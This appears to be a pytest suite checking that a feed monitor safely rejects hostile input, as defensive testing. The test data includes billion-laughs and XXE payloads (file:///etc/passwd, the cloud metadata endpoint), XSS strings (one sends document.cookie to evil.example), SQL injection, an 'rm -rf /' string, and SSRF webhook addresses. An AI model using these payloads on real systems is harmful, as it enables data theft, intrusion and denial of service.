"""Hostile and broken input: refused with a clear error, never a crash, nothing stored from it.

Feeds (malformed XML, entity bombs, external entities, invalid bytes, hostile HTML), the
command line (usage errors exit 2, user errors exit 1, always one line without a traceback)
and delivery targets (only Slack hosts for ``slack:``, no private addresses).
"""

from __future__ import annotations

import os

import pytest
from sqlalchemy import select

from monitor.cli.safety import require_safe_expat
from monitor.errors import ConfigError, InsanityError, ParseError
from monitor.models import Item, Source
from monitor.sanity import sanity_check
from monitor.sources import Fetched, Page
from monitor.sources.rss import RssConfig, RssSource
from tests.conftest import run_cli
from tests.reliability.helpers import count, item_keys, poll, rss, write_sources

SOURCE = RssSource(RssConfig(id="fuzz", url="https://example.org/feed.xml"))


def parse(body: bytes):
    records = SOURCE.parse(Fetched(pages=(Page("https://example.org/feed.xml", body),)))
    sanity_check(records)
    return records


def item(inner: str) -> bytes:
    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
            f'<item>{inner}</item></channel></rss>').encode()


LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<rss version="2.0"><channel><title>T</title><item><guid>x</guid><title>&lol9;</title></item></channel></rss>"""

QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"A" * 50_000 + b'">]>'
             b'<rss version="2.0"><channel><title>T</title><item><guid>q</guid><title>'
             + b"&a;" * 2_000 + b"</title></item></channel></rss>")


def xxe(path: str, where: str = "title") -> bytes:
    return (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file://{path}">]>'
            f'<rss version="2.0"><channel><title>T</title><item><guid>x</guid><{where}>&xxe;</{where}>'
            f'</item></channel></rss>').encode()


MALFORMED: dict[str, bytes] = {
    "empty": b"",
    "whitespace_only": b"   \n\t ",
    "nul_bytes": b"\x00" * 100,
    "random_binary": bytes(range(256)),
    "utf16_bom_garbage": b"\xff\xfe<\x00r\x00",
    "plain_text": b"Service temporarily unavailable",
    "json": b'{"error": "rate limited", "detail": "try later"}',  # an API error body; a JSON Feed would be accepted
    "json_list": b'[1, 2, 3]',
    "html_page": b"<html><body><h1>404 Not Found</h1></body></html>",
    "unclosed_root": b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>',
    "mismatched_tags": item("<title>a</guid>"),
    "bad_entity": item("<guid>x</guid><title>AT&T &bogus; &#xD800;</title>"),
    "invalid_utf8_in_title": item("<guid>x</guid><title>").replace(b"<title>", b"<title>\xff\xfe\xc3(") ,
    "control_chars": item("<guid>x</guid><title>\x01\x02\x1b[31mred</title>"),
    "declared_utf16_is_utf8": b'<?xml version="1.0" encoding="utf-16"?>' + item("<guid>x</guid><title>t</title>")[21:],
    "unknown_encoding": b'<?xml version="1.0" encoding="x-unknown-9"?>' + item("<guid>x</guid><title>t</title>")[21:],
    **{f"declared_{codec}_invalid_bytes": f'<?xml version="1.0" encoding="{codec}"?>'.encode()
       + item("<guid>x</guid><title>t</title>")[21:].replace(b"<title>t", b"<title>t\xff\xfe")
       for codec in ("idna", "undefined", "punycode")},
    "deeply_nested": item("<guid>d</guid><title>t</title>" + "<x>" * 50_000 + "</x>" * 50_000),
    "deeply_nested_unclosed": item("<guid>d</guid>" + "<x>" * 30_000),
    "huge_attribute": item('<guid>h</guid><title a="' + "v" * 1_000_000 + '">t</title>'),
    "huge_title": item("<guid>h</guid><title>" + "t" * 2_000_000 + "</title>"),
    "ten_thousand_items": (b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
                           + b"".join(b"<item><guid>%d</guid><title>t</title></item>" % i for i in range(10_000))
                           + b"</channel></rss>"),
    "duplicate_guids": (b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
                        b"<item><guid>same</guid><title>a</title></item><item><guid>same</guid><title>b</title></item>"
                        b"</channel></rss>"),
    "item_without_anything": item(""),
    "empty_guid_and_link": item("<guid></guid><link></link><title>only a title</title>"),
    "future_date": item("<guid>f</guid><title>t</title><pubDate>Mon, 01 Jan 2999 00:00:00 GMT</pubDate>"),
    "garbage_date": item("<guid>g</guid><title>t</title><pubDate>the day after tomorrow</pubDate>"),
    "year_zero_date": item("<guid>g</guid><title>t</title><pubDate>Mon, 01 Jan 0000 00:00:00 GMT</pubDate>"),
    "cdata_unclosed": item("<guid>c</guid><title><![CDATA[never closed</title>"),
    "processing_instruction": item('<?evil cmd="rm -rf /"?><guid>p</guid><title>t</title>'),
    "atom_without_entries": b'<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title></feed>',
    "atom_entry_no_id": b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>t</title></entry></feed>',
    "rdf_broken": b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><item><title>t</title>',
    # feedparser's loose parser (used once strict XML fails) called int(None) on these: TypeError.
    "stray_image_width_end_tag": (b'<rss version="2.0"><channel><title>t</title><image><url>u</url></width></image>'
                                  b'<item><guid>a</guid><title>x</title></item></channel></rss>&'),
    "stray_image_height_end_tag": (b'<rss version="2.0"><channel><title>t</title><image><url>u</url></height></image>'
                                   b'<item><guid>a</guid><title>x</title></item></channel></rss>&'),
    "svg_not_a_feed": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "billion_laughs": LAUGHS,
    "quadratic_blowup": QUADRATIC,
    "xxe_parameter_entity": (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'
                             + item("<guid>x</guid><title>t</title>")[21:]),
    "xxe_http": (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
                 b'<rss version="2.0"><channel><item><guid>x</guid><title>&e;</title></item></channel></rss>'),
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_malformed_feed_is_refused_or_parsed_never_crashes(name: str) -> None:
    try:
        records = parse(MALFORMED[name])
    except (ParseError, InsanityError) as exc:
        assert str(exc).strip() and "\n" not in str(exc).strip()
        return
    for record in records:
        assert isinstance(record.title, str) and len(record.key) < 2_100_000


def test_billion_laughs_does_not_expand() -> None:
    try:
        records = parse(LAUGHS)
    except (ParseError, InsanityError):
        return
    assert all(len(r.title) < 10_000 for r in records)


@pytest.mark.parametrize("where", ["title", "description", "guid", "link"])
def test_external_entity_never_reads_a_local_file(where: str, tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-XXE-CANARY")
    try:
        records = parse(xxe(str(secret), where))
    except (ParseError, InsanityError):
        return
    assert "TOP-SECRET-XXE-CANARY" not in repr([r.snapshot() for r in records])


def test_xxe_through_the_whole_pipeline_stores_no_file_content(db, feeds, tmp_path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-XXE-CANARY")
    feeds.set("/x.xml", xxe(str(secret)))
    poll(db, write_sources(tmp_path / "sources.yaml", {"x": feeds.url("/x.xml")}))
    with db.session() as s:
        stored = repr([(i.title, i.summary, i.key, i.data) for i in s.scalars(select(Item))])
        error = s.get(Source, "x").last_error or ""
    assert "TOP-SECRET-XXE-CANARY" not in stored + error


@pytest.mark.parametrize("name", ["empty", "html_page", "json", "random_binary", "plain_text"])
def test_rejected_body_stores_nothing_and_keeps_earlier_items(name: str, db, feeds, tmp_path) -> None:
    config = write_sources(tmp_path / "sources.yaml", {"x": feeds.url("/x.xml")})
    feeds.set("/x.xml", rss(("a1", "Kept")))
    poll(db, config)
    feeds.set("/x.xml", MALFORMED[name])
    result = poll(db, config)
    assert result.polls[0].outcome == "failed" and result.polls[0].error.startswith("parse:")
    assert item_keys(db) == {"rss:x:a1"} and count(db, Item) == 1


HOSTILE = [
    "<script>alert(document.cookie)</script>Bivens",
    '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">',
    "<a href=\"javascript:alert(1)\">click</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<style>body{display:none}</style>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--#exec cmd=\"/bin/echo pwned\" -->",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "<@U12345> <!channel> <!here> *bold* ~strike~",
    "\u202eRTL override\u202c and zero\u200bwidth",
    "Robert'); DROP TABLE items;--",
]


@pytest.mark.parametrize("index", range(len(HOSTILE)), ids=[f"hostile_{i}" for i in range(len(HOSTILE))])
def test_hostile_html_is_stored_as_text(index: int, db, feeds, tmp_path) -> None:
    from xml.sax.saxutils import escape

    hostile = HOSTILE[index]
    feeds.set("/h.xml", rss(("h1", escape(hostile), escape(hostile))))
    poll(db, write_sources(tmp_path / "sources.yaml", {"h": feeds.url("/h.xml")}))
    with db.session() as s:
        stored = s.scalars(select(Item)).one()
        assert isinstance(stored.title, str) and stored.title  # text, whatever it says
        assert count(db, Item) == 1  # an injection in a title is just a title
    assert item_keys(db) == {"rss:h:h1"}


@pytest.mark.parametrize(("version", "ok"), [
    ("expat_2.5.0", True), ("expat_2.4.1", True), ("expat_3.0.0", True), ("expat_2.6.10", True),
    ("expat_2.4.0", False), ("expat_2.2.10", False), ("expat_1.95.8", False), ("expat_2.3.99", False),
    ("garbage", False), ("", False),
])
def test_expat_version_check(version: str, ok: bool) -> None:
    if ok:
        require_safe_expat(version)
        return
    with pytest.raises(ConfigError) as info:
        require_safe_expat(version)
    assert "\n" not in str(info.value) and "Expat" in str(info.value)


def test_this_interpreter_has_a_safe_expat() -> None:
    require_safe_expat()


# ---- the command line -------------------------------------------------------------------------

def run_main(args: list[str]) -> tuple[int, str, str]:
    result = run_cli(args, dict(os.environ))
    return result.returncode, result.stdout, result.stderr


CLI_USAGE = {
    "unknown_command": ["frobnicate"],
    "unknown_option": ["run", "--once", "--turbo"],
    "missing_argument": ["subscribe"],
    "option_missing_value": ["run", "--config"],
    "bad_choice_flag_value": ["items", "list", "--limit", "many"],
    "extra_argument": ["status", "extra"],
    "retry_without_what": ["alerts", "retry"],
    "retry_one_and_all": ["alerts", "retry", "3", "--all-failed"],
}

CLI_USER = {
    "missing_config": (["run", "--once", "--config", "/nonexistent/sources.yaml"], "configuration file not found"),
    "bad_db_url": (["status", "--db", "nonsense://"], "error:"),
    "unknown_watchlist": (["subscribe", "nope", "slack:https://hooks.slack.com/services/T/B/X"], "no watchlist named"),
    "bad_watchlist_name": (["watchlist", "add", "Bad Name!", "--query", "x"], "is not a slug"),
    "unknown_item": (["items", "show", "rss:none:none"], "no item with key"),
    "bad_since_date": (["changes", "list", "--since", "yesterday-ish"], "not an ISO date"),
}


@pytest.mark.parametrize("name", list(CLI_USAGE))
def test_cli_usage_error_exits_2_without_traceback(name, monkeypatch, db_url) -> None:
    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
    code, out, err = run_main(CLI_USAGE[name])
    assert code == 2, (out, err)
    assert "Traceback" not in err + out and len(err.strip().splitlines()) == 1 and err.startswith("error: ")


@pytest.mark.parametrize("name", list(CLI_USER))
def test_cli_user_error_exits_1_with_one_line(name, monkeypatch, db_url) -> None:
    args, expected = CLI_USER[name]
    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
    code, out, err = run_main(args)
    assert code in (1, 2), (out, err)
    assert expected in err and "Traceback" not in err + out
    assert len([line for line in err.splitlines() if line.startswith("error")]) <= 1


BAD_TARGETS = {
    "slack_non_slack_host": "slack:https://evil.example.com/services/T/B/X",
    "slack_plain_http": "slack:http://hooks.slack.com/services/T/B/X",
    "slack_metadata": "slack:https://169.254.169.254/latest/meta-data/",
    "slack_private_10": "slack:https://10.0.0.1/services/T/B/X",
    "slack_private_192": "slack:https://192.168.1.1/services/T/B/X",
    "slack_loopback": "slack:https://127.0.0.1/services/T/B/X",
    "slack_localhost_name": "slack:https://localhost/services/T/B/X",
    "slack_ipv6_loopback": "slack:https://[::1]/services/T/B/X",
    "slack_no_url": "slack:",
    "slack_garbage": "slack:not a url at all",
    "slack_bad_port": "slack:https://hooks.slack.com:99999/x",
    "webhook_localhost_trailing_dot": "webhook:https://localhost./hook",
    "webhook_ip6_localhost": "webhook:https://ip6-localhost/hook",
    "webhook_decimal_ipv4": "webhook:https://2130706433/hook",
    "webhook_hex_ipv4": "webhook:https://0x7f000001/hook",
    "webhook_short_ipv4": "webhook:https://127.1/hook",
    "webhook_octal_ipv4": "webhook:https://0177.0.0.1/hook",
    "webhook_nat64_metadata": "webhook:https://[64:ff9b::a9fe:a9fe]/hook",
    "webhook_6to4_metadata": "webhook:https://[2002:a9fe:a9fe::]/hook",
    "webhook_ipv4_compatible_loopback": "webhook:https://[::127.0.0.1]/hook",
    "webhook_ietf_dummy_192_0_0_8": "webhook:https://192.0.0.8/hook",
    "webhook_loopback_trailing_dot": "webhook:https://127.0.0.1./hook",
    "unknown_channel": "pigeon:coo",
    "no_scheme": "hooks.slack.com/services/T/B/X",
    "empty": "",
}


@pytest.mark.parametrize("name", list(BAD_TARGETS))
def test_bad_target_is_refused_and_nothing_is_stored(name, monkeypatch, db_url) -> None:
    from monitor.db import Database
    from monitor.models import Subscription, Watchlist

    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
    monkeypatch.delenv("MONITOR_ALLOW_PRIVATE_URLS", raising=False)
    database = Database(db_url)
    with database.session() as s:
        s.add(Watchlist(name="bivens", query="bivens"))
    code, _out, err = run_main(["subscribe", "bivens", BAD_TARGETS[name]])
    assert code in (1, 2) and "Traceback" not in err
    assert "XXSECRET" not in err
    with database.session() as s:
        assert s.scalars(select(Subscription)).all() == []
    database.dispose()


# ---- sources.yaml that once crashed or hung (issue 16 item 13) ----------------------------------

def _alias_bomb() -> str:
    """~300 bytes whose aliases would expand to 9^9 (387 million) values."""
    lines = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for i in range(1, 9):
        prev, cur = chr(ord("a") + i - 1), chr(ord("a") + i)
        lines.append(f"{cur}: &{cur} [" + ",".join([f"*{prev}"] * 9) + "]")
    return "\n".join(lines) + "\nsources: []\n"


ONE_SOURCE = "sources:\n  - id: a\n    kind: rss\n    url: https://example.org/feed.xml\n"
BAD_CONFIGS = {
    "kind_is_a_list": ("sources:\n  - id: a\n    kind: [rss]\n    url: https://example.org/f\n",
                       "sources.yaml:3: source 'a': unknown kind"),
    "kind_is_a_mapping": ("sources:\n  - id: a\n    kind: {rss: 1}\n    url: https://example.org/f\n",
                          "sources.yaml:3: source 'a': unknown kind"),
    "nested_20000_deep": (ONE_SOURCE + "    title: " + "[" * 20_000 + "]" * 20_000 + "\n",
                          "sources.yaml:5: invalid YAML: nested more than 64 levels deep"),
    "alias_bomb": (_alias_bomb(), "invalid YAML: aliases expand to more than 2,000,000 values"),
    "huge_interval": (ONE_SOURCE + "    interval: 99999999999999999999d\n",
                      ("sources.yaml:5: source 'a': field 'interval': duration '99999999999999999999d' is longer "
                       "than 3650 days")),
    "huge_jitter": ("defaults:\n  jitter: 999999999999d\n" + ONE_SOURCE,
                    "sources.yaml:2: defaults: field 'jitter': duration '999999999999d' is longer than 3650 days"),
    "max_bytes_negative": (ONE_SOURCE + "    max_bytes: -1\n", "sources.yaml:5: source 'a': field 'max_bytes'"),
    "max_bytes_zero": (ONE_SOURCE + "    max_bytes: 0\n", "sources.yaml:5: source 'a': field 'max_bytes'"),
    "max_bytes_beyond_any_feed": (ONE_SOURCE + "    max_bytes: 99999999999999\n",
                                  "field 'max_bytes': 99999999999999 bytes is more than the largest body cap, 512 MB"),
    "cron_never_fires": (ONE_SOURCE + "    cron: '0 0 31 2 *'\n",
                         "sources.yaml:5: source 'a': field 'cron': cron '0 0 31 2 *' never fires (no such date)"),
    "invalid_css_selector": (("sources:\n  - id: a\n    kind: html\n    url: https://example.org/p\n"
                              "    item: 'div[[['\n    fields: {title: a}\n"),
                             "sources.yaml:5: source 'a': field 'item': invalid CSS selector 'div[[['"),
    "invalid_css_in_fields": (("sources:\n  - id: a\n    kind: html\n    url: https://example.org/p\n"
                               "    item: div\n    fields: {title: 'a:::b'}\n"), "invalid CSS selector 'a:::b'"),
}


@pytest.mark.parametrize("command", [["sources", "list"], ["run", "--once"]])
@pytest.mark.parametrize("name", list(BAD_CONFIGS))
def test_bad_sources_yaml_is_one_line_with_its_line(name, command, tmp_path, monkeypatch, capsys, db_url) -> None:
    text, expected = BAD_CONFIGS[name]
    path = tmp_path / "sources.yaml"
    path.write_text(text)
    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
    code, out, err = run_main([*command, "--config", str(path)])
    assert code == 1, (out, err)
    assert err.strip().splitlines() == [err.strip()] and expected in err, err
    assert "Traceback" not in err + out and "internal error" not in err


def test_config_from_an_endless_file_is_a_bounded_read(monkeypatch, capsys, db_url) -> None:
    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
    code, _, err = run_main(["sources", "list", "--config", "/dev/zero"])
    assert code == 1 and err.strip() == "error: /dev/zero: larger than 16 MB: not a sources.yaml"


# ---- the command line (issue 16 item 14) --------------------------------------------------------

HUGE = str(10**20)
CLI_HOSTILE = {
    "query_5000_nested_parens": (["items", "search", "(" * 5000 + "x" + ")" * 5000], 1,
                                 "nested more than 100 levels deep"),
    "query_5000_nots": (["items", "search", "NOT " * 5000 + "x"], 1, "nested more than 100 levels deep"),
    "snooze_99999999999d": (["watchlist", "snooze", "bivens", "99999999999d"], 2,
                            "duration '99999999999d' is longer than 3650 days"),
    "limit_10e20": (["items", "list", "--limit", HUGE], 2, "'--limit'"),
    "alerts_show_10e20": (["alerts", "show", HUGE], 2, "DELIVERY_ID"),
    "alerts_retry_10e20": (["alerts", "retry", HUGE], 2, "DELIVERY_ID"),
    "unsubscribe_10e20": (["unsubscribe", HUGE], 1, f"no subscription {HUGE}"),
    "db_in_missing_dir": (["items", "list", "--db", "sqlite:////nonexistent/dir/monitor.db"], 1,
                          "the database directory /nonexistent/dir does not exist"),
    "db_unknown_dialect": (["items", "list", "--db", "frobdb://host/db"], 1,
                           "unsupported database URL scheme 'frobdb'"),
    # a known scheme whose driver is not installed, as PostgreSQL is after a plain `pip install .` without the
    # postgres extra (before: "unsupported database URL scheme … (expected … postgresql+psycopg://…)")
    "db_driver_not_installed": (["items", "list", "--db", "postgresql+pg8000://u@127.0.0.1/db"], 1,
                                ("the database URL needs the Python module 'pg8000', which is not installed; "
                                 "PostgreSQL needs the postgres extra: pip install 'remedy-monitor[postgres]'")),
}


@pytest.mark.parametrize("name", list(CLI_HOSTILE))
def test_hostile_cli_input_is_one_clear_line(name, monkeypatch, capsys, db_url) -> None:
    from monitor.db import Database
    from monitor.models import Watchlist

    args, expected_code, expected = CLI_HOSTILE[name]
    monkeypatch.setenv("MONITOR_DATABASE_URL", db_url)
    database = Database(db_url)
    with database.session() as s:
        s.add(Watchlist(name="bivens", query="bivens"))
    database.dispose()
    code, out, err = run_main(args)
    assert code == expected_code, (out, err)
    assert expected in err and "Traceback" not in err + out and "internal error" not in err
    assert len([line for line in err.splitlines() if line.startswith("error")]) == 1
    assert len(err.splitlines()) <= 3 and all(len(line) < 200 for line in err.splitlines())


def test_subscribe_piped_into_head_keeps_the_subscription(cli_env, tmp_path) -> None:
    """`monitor subscribe … | head -1`: the reader is gone before the output is written (a pipe
    whose reading end is already closed, so every write fails as it would after `head` exits);
    the subscription must be stored all the same, and no traceback shown."""
    import subprocess
    import sys

    from tests.conftest import run_cli

    assert run_cli(["watchlist", "add", "bivens", "--query", "bivens"], cli_env).returncode == 0
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        piped = subprocess.run([sys.executable, "-m", "monitor", "subscribe", "bivens",
                                "webhook:http://127.0.0.1:9/hook"],
                               env=cli_env, stdout=write_end, stderr=subprocess.PIPE, text=True, timeout=120,
                               check=False)
    finally:
        os.close(write_end)
    assert piped.returncode == 1 and piped.stderr == ""  # the output was lost, and says so by its exit
    listed = run_cli(["subscriptions", "list", "--json"], cli_env)
    assert '"watchlist": "bivens"' in listed.stdout
